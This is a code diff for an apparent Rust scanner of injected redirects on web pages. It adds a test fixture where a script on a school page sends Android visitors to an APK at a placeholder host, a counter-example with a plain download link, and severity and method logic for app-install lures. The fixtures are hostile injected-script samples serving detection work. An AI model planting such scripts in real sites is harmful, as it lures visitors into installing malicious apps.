@@ -78,8 +78,20 @@ const CARD: Card = Card {
                 "<title>某某学校</title><script>if(/baidu|sogou/.test(document.referrer)){top.location.href='http://x9.bc1.test/'}</script><p>学校简介",
             ),
         },
+        Example {
+            name: "a script makes phones install an app from elsewhere",
+            seen: Seen::Page(
+                "<title>某某学校</title><script>if(/Android/.test(navigator.userAgent))location.href='http://dl.x9.test/a.apk'</script><p>学校简介",
+            ),
+        },
     ],
     must_spare: &[
+        Example {
+            name: "a link to an app",
+            seen: Seen::Page(
+                "<title>某某学校</title><p>学校简介</p><a href='http://dl.x9.test/a.apk'>下载客户端</a>",
+            ),
+        },
         Example {
             name: "a script sends phones to the mobile page of the same site",
             seen: Seen::Visit(|| {
@@ -191,6 +203,11 @@ impl Case<'_> {
                 signals.extend([Signal::Payload, Signal::Mechanism]);
                 (State::Suspected, Severity::High, 0.6 + score * 0.25, signals)
             }
+            Target::Install => {
+                signals.push(Signal::Mechanism);
+                let severity = if gated { Severity::High } else { Severity::Medium };
+                (State::Suspected, severity, 0.7, signals)
+            }
             _ if gated => {
                 signals.push(Signal::Mechanism);
                 (State::Suspected, Severity::High, 0.7, signals)
@@ -238,7 +255,7 @@ impl Case<'_> {
                 selector: (!jump.selector.is_empty()).then(|| jump.selector.clone()),
                 line: (jump.line > 0).then_some(jump.line),
                 snippet: Some(Snippet { text: jump.source.clone(), mark: (0, jump.source.len()) }),
-                method: Some(jump.method.to_owned()),
+                method: Some(self.method().to_owned()),
             })
             .payload(self.payload(context))
             .signals(signals)
@@ -262,6 +279,12 @@ impl Case<'_> {
             builder = builder.detail("alternatives", conditions.alternatives.clone());
         }
         builder.conditions(conditions).build()
+    }
+
+    /// The technique: what is sent for installs an app, whichever way the script goes there.
+    fn method(&self) -> &'static str {
+        let scripted = self.jump.method.starts_with("js-") || self.jump.method.starts_with("script-");
+        if scripted && *self.target == Target::Install { "js-app-lure" } else { self.jump.method }
     }
 
     fn payload(&self, context: &Context<'_>) -> Payload {
